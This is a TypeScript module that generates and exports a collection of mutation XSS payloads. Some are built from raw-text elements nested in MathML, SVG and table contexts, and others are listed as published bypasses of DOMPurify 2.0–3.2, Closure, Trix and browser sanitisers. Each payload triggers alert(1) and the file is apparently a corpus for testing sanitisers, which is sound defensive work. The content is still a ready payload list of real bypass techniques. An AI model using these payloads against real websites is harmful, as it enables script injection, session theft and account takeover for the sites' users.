/** Fires once it is parsed as an element. */
const FIRE = '<img src=x onerror=alert(1)>';

/** Elements whose text is not markup, but may be for a second parser. */
const RAW = [
  'style',
  'title',
  'textarea',
  'xmp',
  'noscript',
  'noembed',
  'noframes',
  'iframe',
  'script',
];

/** Contexts with other parsing rules: the markup that opens and closes each. */
const PLACES: ReadonlyArray<readonly [string, string]> = [
  ['<math><mtext>', ''],
  ['<math><mtext><table><mglyph>', ''],
  ['<math><mi><mglyph>', ''],
  ['<math><annotation-xml encoding="text/html">', ''],
  ['<math><annotation-xml>', '</annotation-xml></math>'],
  ['<svg><desc>', ''],
  ['<svg><title>', '</title></svg>'],
  ['<svg><foreignObject>', ''],
  ['<svg></p>', ''],
  ['<svg><b>', ''],
  ['<form><math><mtext></form><form><mglyph>', ''],
  ['<table><caption><svg><title><table><caption></caption></table>', ''],
  ['<select><option>', '</select>'],
  ['<table><td>', '</table>'],
  ['<noscript>', '</noscript>'],
  ['<template>', '</template>'],
  ['<a><svg><a>', ''],
  [`${'<r>'.repeat(510)}<svg>`, ''],
  [`${'<div>'.repeat(253)}<a>${'<div>'.repeat(255)}<a><math><mi>`, ''],
];

/** Published ways around sanitisers, in their shortest forms: DOMPurify 2.0 to 3.2, Closure, Trix, browsers' own. */
const KNOWN: readonly string[] = [
  `<svg></p><style><a id="</style>${FIRE}">`,
  `<math></p><style><!--</style><a title="--&gt;${FIRE}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${FIRE}`,
  `<math><mtext><table><mglyph><style><math><a title="</style>${FIRE}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>${FIRE}">`,
  `<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>`,
  `<svg><style><![CDATA[</style>${FIRE}]]></style></svg>`,
  `<svg><script>&#97;lert(1)</script><p>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src='x' onerror='alert(1)'>">`,
  `<table><tr><td><svg><title><noscript><p title="</noscript>${FIRE}"></title></svg></td></tr></table>`,
  `<noscript><style></noscript>${FIRE}</style>`,
  `<style><style/>${FIRE}`,
  `<xmp><svg><b><style><b title="</xmp>${FIRE}">`,
  `<noembed><svg><b><style><b title="</noembed>${FIRE}">`,
  `<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>`,
  `<textarea></textarea><math><mi><textarea><a title="</textarea>${FIRE}">`,
  `<p><svg><textarea><title><style></textarea>${FIRE}</style></title></svg>`,
  `<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-><img src onerror=alert(1)>">`,
  `<form id=f><form><input name=parentNode></form>${FIRE}`,
  `<form><input name=childNodes><input name=firstChild><input name=nodeName></form>${FIRE}`,
  `<img id=implementation><img id=createNodeIterator><img id=currentScript>${FIRE}`,
  `<div id="\${alert(1)}">\${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %></div>`,
  `<custom-element is="x-y" onclick=alert(1)><b is=x onpointerenter=alert(1)>x</b></custom-element>`,
  `<?xml-stylesheet > ${FIRE} ?><!ENTITY % x "${FIRE}">`,
  `<!--><img src=x onerror=alert(1)>--><!---><img src=x onerror=alert(1)>-->`,
  `<![CDATA[ ><a title="]]>${FIRE}">`,
  `<a id="\n"><b title="${FIRE.replaceAll('<', '&lt;')}">x</b></a>`,
  `<a title="&lt;/a&gt;${FIRE}">x</a><b class='"${FIRE}'>y</b>`,
  `<template><div shadowrootmode=open>${FIRE}</template><template shadowrootmode=closed>${FIRE}</template>`,
  `<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1)></svg>`,
  `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)'/&gt;&lt;/svg&gt;#x"/></svg>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>`,
  `<plaintext>${FIRE}`,
  `<html><body><frameset onload=alert(1)></frameset></body></html>`,
  `<body><p id=p></body></html><body onload=alert(1)><script>alert(1)</script>`,
  `<table><tr><td>x</td></tr>${FIRE}<script>alert(1)</script></table>`,
  `<style>p::before{content:"</style>${FIRE}"}</style><p>x</p>`,
  `<style>@keyframes a{to{x:"\\3c/style>${FIRE}"}} p{animation:a forwards}</style><p>x</p>`,
  `<style>p::first-letter{color:red;x:"${FIRE}"}</style><p>&lt;img src=x onerror=alert(1)&gt;</p>`,
  `<style>a[title='</style>${FIRE}']{color:red}</style><a title="</style>${FIRE}">x</a>`,
  `<svg><style>p{color:red}&lt;/style>&lt;img src=x onerror=alert(1)></style></svg><p>x</p>`,
  `<table border=1 cellpadding='"${FIRE}'><caption title='</caption>${FIRE}'>x</caption><td colspan='"${FIRE}'>y</table>`,
  `<font face="x'${FIRE}" size='"${FIRE}' color='red"${FIRE}'>x</font><a name='"${FIRE}'>y</a>`,
  `<body text='red"${FIRE}' link='red"${FIRE}' bgcolor='"${FIRE}'><a href=x>x</a>`,
];

/** Mutation XSS: harmless when first parsed, not when serialised and parsed again. */
export const MUTATIONS: readonly string[] = [
  ...PLACES.flatMap(([before, after]) =>
    RAW.flatMap((tag) => [
      `${before}<${tag}><a title="</${tag}>${FIRE}"></${tag}>${after}`,
      `${before}<${tag}><!--</${tag}>${after}<p title="--&gt;${FIRE.replaceAll('<', '&lt;')}">`,
    ]),
  ),
  ...KNOWN,
];
